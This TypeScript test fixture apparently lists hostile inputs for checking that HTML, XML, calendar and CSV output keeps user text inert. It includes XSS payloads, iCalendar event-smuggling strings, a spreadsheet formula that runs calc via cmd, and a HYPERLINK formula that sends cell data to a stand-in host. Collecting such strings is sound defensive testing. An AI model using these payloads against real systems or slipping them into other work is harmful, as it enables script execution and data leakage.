/** What people and machines put into text fields to make a page run it. Every one has to stay text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '<!-- --><iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">here</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<math><mtext></mtext><mglyph><style></style></mglyph></math>',
  ']]><x/>',
  '{numbered  paragraphs-0} {paragraphs-0}',
  '{{constructor.constructor("alert(1)")()}}',
  '[click](javascript:alert(1))',
  '![x](https://example.org/x.png)',
  '<https://example.org>',
  '`code` **bold** _under_ ~~gone~~ | a | b |',
  '# Heading, 1. list, > quote, - item, $x$, [^1]',
]

/** Texts that no XML file may hold as they stand. */
export const UNPRINTABLE_TEXTS: readonly string[] = [
  'bell \u0007 null \u0000 escape \u001b',
  'vertical \u000b tab, form \u000c feed',
  'half a pair \ud83d alone',
  'second half \ude00 alone',
  'not a character \uffff \ufffe',
  'delete \u007f',
  'lines\r\nbroken\nby\ttabs',
]

const WIDE = '\u{1F469}\u200D\u{1F680}'

/** What would end a line, a cell, a property or an event of a calendar or a table, or be run by what opens it. */
export const HOSTILE_LINES: readonly string[] = [
  'Late\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:smuggled',
  'Late\nEND:VEVENT\nEND:VCALENDAR',
  'Late\rATTENDEE:mailto:everybody@example.org',
  'Late\r\n folded',
  'Late\u2028BEGIN:VALARM\u2029END:VALARM\u0085BEGIN:VTODO',
  'semicolons; commas, and \\backslashes\\, \\n \\N \\; \\, and a last one \\',
  'ALTREP="cid:x":DESCRIPTION;X=1:text',
  'BEGIN:VEVENT',
  'turned \u202Eround\u202C and \u2066isolated\u2069',
  ...Array.from({ length: 8 }, (_one, more) => `${'x'.repeat(48 + more)}${WIDE.repeat(12)}`),
  'é'.repeat(100),
  '\u6F22'.repeat(60),
  'a, "quoted" cell',
  '"',
  '""',
  '"\r\n"',
  'first,second\r\nthird,fourth',
  "='a'!A1",
  '=HYPERLINK("https://x.example/?"&A1,"here")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+44 20 7946 0000',
  '-2+3+cmd',
  '\t=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ';=1+1',
  'sep=;',
  "'=1+1",
]
